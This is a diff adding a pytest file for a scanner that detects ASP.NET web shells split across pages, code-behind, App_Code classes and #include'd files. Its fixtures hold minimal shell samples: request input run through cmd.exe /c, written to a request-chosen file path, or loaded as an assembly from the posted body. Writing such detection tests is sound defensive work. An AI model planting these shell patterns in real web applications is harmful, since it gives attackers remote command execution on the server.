@@ -1,0 +1,192 @@
+"""Behaviour engine, session 9 (issue 14, A2): request input traced across files ASP.NET compiles
+together. A page hands request input to a method of an ``App_Code`` class, of its code-behind or of an
+``#include``'d file, and the dangerous operation is inside that method: alone, the page has no sink
+and the class no source. Ordinary shapes stay silent: a helper whose callers pass constants or
+configuration, an ``App_Code`` class with a sink and no caller passing request input, a page and a
+class that merely use the same variable names.
+
+The files were written for these tests, name only ``example`` hosts, are never compiled or run and
+are not copies of real shells. Each tree is scanned once through ``extriage scan``.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from extriage.detections.webfiles import behaviour
+
+from .rule_tables import findings_for, scan_tree
+
+ROOT = "C/inetpub/wwwroot/"
+
+TOOLS_CS = """using System.Diagnostics;
+namespace Example.Site {
+    public class Tools {
+        public void Run(string c) {
+            var p = new ProcessStartInfo("cmd.exe", "/c " + c);
+            p.UseShellExecute = false;
+            Process.Start(p);
+        }
+    }
+}
+"""
+TOOLS_VB = """Imports System.IO
+Public Class Store
+    Public Shared Sub Keep(ByVal where As String, ByVal body As String)
+        File.WriteAllText(where, body)
+    End Sub
+End Class
+"""
+PAGE = (
+    '<%@ Page Language="C#" %>\n<html><body><form runat="server">'
+    '<asp:Label id="Status" runat="server" /></form>\n'
+    '<% Status.Text = "ready"; var t = new Example.Site.Tools(); t.Run({arg}); %>\n</body></html>\n'
+)
+
+
+def _across(page: str, page_ext: str, cls: str, cls_ext: str) -> list[dict[str, Any]]:
+    return behaviour.analyse_across(page.encode(), page_ext, cls.encode(), cls_ext).hits
+
+
+def test_request_input_handed_to_an_app_code_method_reaches_its_process_start() -> None:
+    page = PAGE.replace("{arg}", 'Request["c"]')
+    assert behaviour.analyse(page.encode(), ".aspx").hits == []  # no sink in the page
+    assert behaviour.analyse(TOOLS_CS.encode(), ".cs").hits == []  # no source in the class
+    assert behaviour.analyse(TOOLS_CS.encode(), ".cs").methods == ["Run"]
+    hits = _across(page, ".aspx", TOOLS_CS, ".cs")
+    assert [(h["sink"], h["file"], h["line"], h["source_line"], h["call_line"]) for h in hits] == [
+        ("process", "callee", 5, 3, 3)
+    ]
+    assert hits[0]["raw"].startswith("var p = new ProcessStartInfo")
+
+
+@pytest.mark.parametrize(
+    "arg",
+    [
+        '"ipconfig /all"',  # a constant
+        'ConfigurationManager.AppSettings["report"]',  # configuration
+        "Status.ID",  # a property of the page's own, not posted input
+    ],
+)
+def test_a_helper_called_with_constants_or_configuration_is_not_flagged(arg: str) -> None:
+    assert _across(PAGE.replace("{arg}", arg), ".aspx", TOOLS_CS, ".cs") == []
+
+
+def test_a_shared_variable_name_is_not_a_call() -> None:
+    # the page reads c from the request and shows it; it calls the class with a constant: the class's
+    # parameter c is not the page's c
+    page = PAGE.replace("{arg}", '"ver"').replace(
+        '<% Status.Text = "ready";', '<% string c = Request["c"]; Status.Text = c;'
+    )
+    assert _across(page, ".aspx", TOOLS_CS, ".cs") == []
+
+
+def test_vb_page_and_vb_class() -> None:
+    page = (
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Page_Load(sender As Object, e As EventArgs)\n"
+        '    Store.Keep(Request.Form("p"), Request.Form("t"))\nEnd Sub\n</script>\n'
+    )
+    hits = _across(page, ".aspx", TOOLS_VB, ".vb")
+    assert ("file-write", 4, 4, "VB") in [
+        (h["sink"], h["line"], h["source_line"], h["language"]) for h in hits
+    ]
+    fixed = page.replace('Request.Form("p")', 'Server.MapPath("~/App_Data/notes.txt")')
+    assert _across(fixed, ".aspx", TOOLS_VB, ".vb") == []  # request content in a fixed file: a notes page
+
+
+def test_languages_that_do_not_compile_together_are_not_traced() -> None:
+    page = PAGE.replace("{arg}", 'Request["c"]')
+    assert _across(page, ".aspx", TOOLS_VB, ".vb") == []
+
+
+#: (caller path, its text, callee path, its text, sink)
+SHELLS: list[tuple[str, str, str, str, str]] = [
+    ("app/run.aspx", PAGE.replace("{arg}", 'Request["c"]'), "app/App_Code/Tools.cs", TOOLS_CS, "process"),
+    (
+        "vbapp/save.ashx",
+        '<%@ WebHandler Language="VB" Class="Saver" %>\nImports System.Web\n'
+        "Public Class Saver : Implements IHttpHandler\n"
+        "    Public Sub ProcessRequest(ByVal ctx As HttpContext) Implements IHttpHandler.ProcessRequest\n"
+        '        Store.Keep(ctx.Request("p"), ctx.Request("t"))\n    End Sub\n'
+        "    Public ReadOnly Property IsReusable As Boolean Implements IHttpHandler.IsReusable\n"
+        "        Get\n            Return False\n        End Get\n    End Property\nEnd Class\n",
+        "vbapp/App_Code/Store.vb",
+        TOOLS_VB,
+        "file-write",
+    ),
+    (
+        # the caller is a code-behind file: it calls a loader class of App_Code with the posted body
+        "site2/view.aspx.cs",
+        "public partial class View : System.Web.UI.Page {\n"
+        "    protected void Page_Load(object s, System.EventArgs e) {\n"
+        "        var b = new byte[Request.ContentLength];\n        Request.InputStream.Read(b, 0, b.Length);\n"
+        "        Example.Cache.Warm(b);\n    }\n}\n",
+        "site2/App_Code/Cache.cs",
+        "namespace Example {\n  public static class Cache {\n    public static object Warm(byte[] data) {\n"
+        '      return System.Reflection.Assembly.Load(data).CreateInstance("Example.Probe");\n    }\n  }\n}\n',
+        "assembly-load",
+    ),
+    (
+        # an #include'd file defines the method, the page calls it
+        "site3/status.aspx",
+        '<%@ Page Language="C#" %>\n<!-- #include file="parts/util.inc" -->\n'
+        '<% Check(Request.QueryString["h"]); %>\n',
+        "site3/parts/util.inc",
+        '<script runat="server">\nvoid Check(string host) {\n'
+        '    System.Diagnostics.Process.Start("ping.exe", host);\n}\n</script>\n',
+        "process",
+    ),
+]
+#: ordinary applications: the same shapes where no request input reaches the operation
+ORDINARY: list[tuple[str, str]] = [
+    ("ok1/report.aspx", PAGE.replace("{arg}", '"ipconfig /all"')),
+    ("ok1/App_Code/Tools.cs", TOOLS_CS),
+    (
+        "ok2/notes.aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Page_Load(sender As Object, e As EventArgs)\n"
+        '    Store.Keep(Server.MapPath("~/App_Data/notes.txt"), Request.Form("t"))\nEnd Sub\n</script>\n',
+    ),
+    ("ok2/App_Code/Store.vb", TOOLS_VB),
+    (
+        "ok3/App_Code/Pdf.cs",
+        "using System.Diagnostics;\npublic static class Pdf {\n"
+        "  public static void Make(string html, string pdf) {\n"
+        '    Process.Start("wkhtmltopdf.exe", "\\"" + html + "\\" \\"" + pdf + "\\"");\n  }\n}\n',
+    ),
+    (
+        "ok3/invoice.aspx.cs",
+        "public partial class Invoice : System.Web.UI.Page {\n"
+        "  protected void Page_Load(object s, System.EventArgs e) {\n"
+        '    string id = Request.QueryString["id"];\n    int n = int.Parse(id);\n'
+        '    Pdf.Make(Server.MapPath("~/App_Data/inv.html"), Server.MapPath("~/App_Data/inv" + n + ".pdf"));\n'
+        "  }\n}\n",
+    ),
+]
+
+
+@pytest.fixture(scope="module")
+def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    files = [(p, t) for a, at, b, bt, _s in SHELLS for p, t in ((a, at), (b, bt))] + ORDINARY
+    return scan_tree(Path(tmp_path_factory.mktemp("engine9")), ROOT, files)
+
+
+@pytest.mark.parametrize(("caller", "callee", "sink"), [(c, e, s) for c, _a, e, _b, s in SHELLS])
+def test_split_shell_is_found_on_its_page_naming_both_files(
+    scanned: dict[str, Any], caller: str, callee: str, sink: str
+) -> None:
+    found = [f for f in findings_for(scanned, caller) if f["rule_id"] == f"WF-BEHAV-{sink.upper()}"]
+    assert found, [f["rule_id"] for f in findings_for(scanned, caller)]
+    sources = {str(e["source"]).replace("\\", "/") for e in found[0]["evidence"]}
+    assert any(s.endswith(caller) for s in sources) and any(s.endswith(callee) for s in sources)
+    roles = {e["fields"].get("role") for e in found[0]["evidence"]}
+    assert {"source", "sink"} <= roles
+
+
+@pytest.mark.parametrize("path", [p for p, _t in ORDINARY])
+def test_ordinary_application_is_not_flagged(scanned: dict[str, Any], path: str) -> None:
+    assert findings_for(scanned, path) == []
